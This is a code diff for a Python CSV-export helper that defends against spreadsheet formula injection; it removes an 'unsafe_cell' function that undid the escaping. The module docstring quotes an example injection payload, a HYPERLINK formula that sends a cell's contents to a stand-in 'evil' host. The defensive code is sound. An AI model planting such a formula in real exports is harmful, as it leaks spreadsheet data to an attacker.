@@ -3,7 +3,7 @@
 Excel, LibreOffice and Google Sheets treat a cell that starts with = + - @ (or a tab / carriage return
 before one) as a formula; an asset tag or room name such as ``=HYPERLINK("http://evil/?"&A1)`` would
 run when a user opens the export. Every CSV export writes its text cells through ``safe_cell``, which
-puts a ``'`` in front of such values: spreadsheets show the text as it is, and ``unsafe_cell`` undoes it.
+puts a ``'`` in front of such values: spreadsheets show the text as it is.
 """
 
 from __future__ import annotations
@@ -15,11 +15,4 @@ def safe_cell(value):
     """``value`` unchanged unless it is text a spreadsheet would evaluate; then prefixed with '."""
     if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
         return "'" + value
-    return value
-
-
-def unsafe_cell(value: str) -> str:
-    """The original text of a cell written by ``safe_cell``."""
-    if value.startswith("'") and value[1:].lstrip(" ").startswith(FORMULA_STARTS):
-        return value[1:]
     return value
